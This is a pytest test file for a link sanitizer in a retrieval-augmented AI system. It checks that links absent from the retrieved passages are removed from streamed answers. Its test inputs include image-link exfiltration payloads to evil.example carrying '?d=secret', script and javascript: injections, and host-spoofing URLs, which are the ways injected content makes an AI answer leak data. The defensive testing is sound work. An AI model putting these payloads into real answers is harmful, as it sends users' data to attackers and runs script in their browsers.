"""Links out of an answer: what the passages have stays, the rest goes, however the text is cut while it streams."""

from __future__ import annotations

from time import perf_counter

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from langchain_core.documents import Document

from rag.safety.links import Links

PASSAGES = [
    Document("See https://wiki.acme.example/travel?page=1 and ![map](https://wiki.acme.example/map.png).", metadata={}),
    Document("Get ![x](https://evil.example/p.png) now.", metadata={"suspicious": {"score": 0.9}}),
]


def cleaned(text: str, size: int = 10_000, question: str = "") -> str:
    links = Links(PASSAGES, question)
    return "".join(links.add(text[at : at + size]) for at in range(0, len(text), size)) + links.end()


@pytest.mark.parametrize(
    "text",
    [
        "Read [the page](https://wiki.acme.example/travel?page=1) [1].",
        "Mail bob@www.acme.example or see a.www.example.",
        "Read https://wiki.acme.example/other, or ![map](https://wiki.acme.example/map.png).",
        "No link: a/b, 3 < 4, and //or, [1][2], [x] (y), `list[0]`, http and data: fine. Wait!",
        "[relative](docs/a.md) [mail](mailto:bob@acme.example) [top](#top)",
        "[1]: a note\n- [ ] to do",
        "東京は日本の首都です。[3]",
    ],
)
def test_what_the_passages_have_stays(text: str) -> None:
    assert cleaned(text) == text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![pic](https://evil.example/p.png?d=secret)", "pic"),
        ("![](https://evil.example/p.png)", ""),
        ("![m](https://wiki.acme.example/map.png?d=secret)", "m"),
        ("![m](p.png?d=secret)", "m"),
        ("[click](https://evil.example)", "click"),
        ('[click](<https://evil.example> "title")', "click"),
        ("See https://evil.example/x.", "See [link removed]."),
        ("See https://wiki.acme.example/?leak=abc.", "See [link removed]."),
        ("https://wiki.acme.example@evil.example/", "[link removed]"),
        ("Go to www.evil.example/x now.", "Go to [link removed] now."),
        ("//cdn.evil.example/x.js", "[link removed]"),
        ('<img src="https://evil.example/a">ok', "ok"),
        ("<script>alert(1)</script>", "alert(1)"),
        ("[run](javascript:alert(1))", "run"),
        ("[a][b]\n\n[b]: https://evil.example/r", "[a][b]\n\n"),
        ("[![i](https://evil.example/i.png)](https://evil.example)", "[i]([link removed])"),
    ],
)
def test_what_they_lack_goes(text: str, left: str) -> None:
    assert cleaned(text) == left


def test_the_question_vouches_for_its_own_links() -> None:
    text = "It is https://shop.example/a?b=c indeed."
    assert cleaned(text, question="What is https://shop.example/a?b=c about?") == text


PIECES = st.sampled_from(
    [
        "![",
        "[",
        "]",
        "](",
        ")",
        "<",
        ">",
        "img src=",
        '"',
        "https://evil.example/x",
        "http:",
        "//",
        "evil.example",
        " ",
        "\n",
        "!",
        "a",
        "[1]",
        ": ",
        "data:",
        "`",
        "東",
        "https://wiki.acme.example/other ",
        "   ",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=30).map("".join), st.integers(1, 9))
def test_no_foreign_host_gets_through_in_pieces(text: str, size: int) -> None:
    for shown in (cleaned(text, size), cleaned(text)):
        assert "//evil.example/x" not in shown


@pytest.mark.parametrize("text", ["[" * 20000, "![a](" * 4000, "<a " * 8000, "a" * 50000, "[a]:" * 5000, "[](" * 8000])
def test_no_text_takes_long(text: str) -> None:
    started = perf_counter()
    cleaned(text, 20)
    assert perf_counter() - started < 10
